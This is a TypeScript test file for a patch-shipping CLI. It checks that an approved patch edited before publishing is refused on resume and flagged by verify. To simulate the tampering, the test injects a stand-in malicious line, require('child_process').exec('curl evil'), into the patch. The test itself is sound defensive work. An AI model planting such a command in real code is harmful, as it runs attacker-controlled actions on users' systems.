import { strict as assert } from 'node:assert';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { readJournal } from '../../../src/adapters/store/file-journal';
import { git, tempRepo } from '../git/temp-repo';
import { approved } from '../support/approved';
import { cliArgs, ROOT, runCli, runsOf } from './cli';

/**
 * What ships is what was approved (issue 9, item 3), through the CLI on real git: a run that
 * reached PR_READY but could not publish (here: git cannot make the commit) has its approved patch edited; the resume refuses to ship it, the journal and
 * evidence stay as recorded, verify names the file, and nothing reaches the user's repository.
 */
describe('fault: an approved patch edited before it shipped is refused on resume (CLI, real git)', function () {
  this.timeout(120_000);

  it('resume refuses the edited patch; put back, the run ships exactly the approved one', () => {
    const t = tempRepo();
    const packet = {
      schemaVersion: 1, id: 'ap', intent: 'index.js exports fixed', source: { kind: 'issue', text: 'x' },
      scope: { paths: [{ path: 'index.js' }], services: [] }, nonGoals: [], reproduction: [{ argv: ['node', 'repro.js'] }],
      allowedTools: [], validation: [{ argv: ['node', 'test.js'] }], noOpRules: [{ when: 'reproduction-passes-before-change', then: 'NO_OP' }],
      evidenceRequired: [], outputFormat: 'pr', risk: 'one-reviewer',
    };
    fs.writeFileSync(join(t.root, 'packet.json'), JSON.stringify(approved(packet)));
    // A git that cannot make commits: publishing fails after the terminal state is recorded.
    const bin = join(t.root, 'bin');
    fs.mkdirSync(bin);
    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    fs.writeFileSync(join(bin, 'git'), `#!/bin/sh\nfor a in "$@"; do [ "$a" = commit-tree ] && { echo 'commit-tree blocked by the test' >&2; exit 1; }; done\nexec '${realGit}' "$@"\n`, { mode: 0o755 });
    const [cmd, argv] = cliArgs(['run', '--repo', t.repo, '--packet', join(t.root, 'packet.json'), '--unattended', '--json', '--no-setup', '--environment', 'local', '--agent-command', `node ${t.fixScript}`]);
    const first = spawnSync(cmd, argv, { cwd: ROOT, encoding: 'utf8', env: { ...process.env, PATH: `${bin}:${process.env.PATH}` }, timeout: 120_000 });
    assert.match(first.stderr, /commit-tree blocked by the test/);
    assert.notEqual(first.status, 0, first.stdout);
    const id = runsOf(t.repo)[0]!;
    const dir = join(t.repo, '.shopfloor', 'runs', id);
    const journal = join(dir, 'journal.jsonl');
    assert.equal(readJournal(journal).records.at(-1)!.event.type, 'run/terminal', first.stderr);

    const patchFile = join(dir, 'artifacts', 'approved.patch');
    const patch = fs.readFileSync(patchFile, 'utf8');
    const evidence = fs.readFileSync(join(dir, 'evidence.json'), 'utf8');
    fs.writeFileSync(patchFile, patch.replace("+module.exports = 'fixed';", "+module.exports = 'fixed'; require('child_process').exec('curl evil');"));
    const before = readJournal(journal).records;

    const r = runCli(['run', '--repo', t.repo, '--resume', id, '--json']);
    assert.notEqual(r.code, 0, r.stdout);
    assert.match(r.stderr, /is not the one the output gate approved/);
    assert.equal(git(t.repo, 'branch', '--list', 'shopfloor/*'), '', 'nothing shipped');
    const after = readJournal(journal);
    assert.equal(after.ok, true);
    assert.deepEqual(after.records.slice(0, before.length), before, 'the recorded journal is unchanged');
    assert.ok(after.records.slice(before.length).every((x) => x.event.type === 'note'));
    assert.equal(fs.readFileSync(join(dir, 'evidence.json'), 'utf8'), evidence, 'the evidence is unchanged');
    const v = runCli(['verify', id, '--repo', t.repo]);
    assert.equal(v.code, 1, v.stdout);
    assert.match(v.stdout, /artifacts\/approved\.patch was changed after the journal recorded it/);

    fs.writeFileSync(patchFile, patch);
    const again = runCli(['run', '--repo', t.repo, '--resume', id, '--json']);
    assert.equal(again.code, 0, again.stderr);
    const out = JSON.parse(again.stdout);
    assert.equal(out.terminalState, 'PR_READY');
    assert.equal(git(t.repo, 'diff', '--binary', '--no-color', t.head, out.output.branch), patch.trimEnd());
  });
});
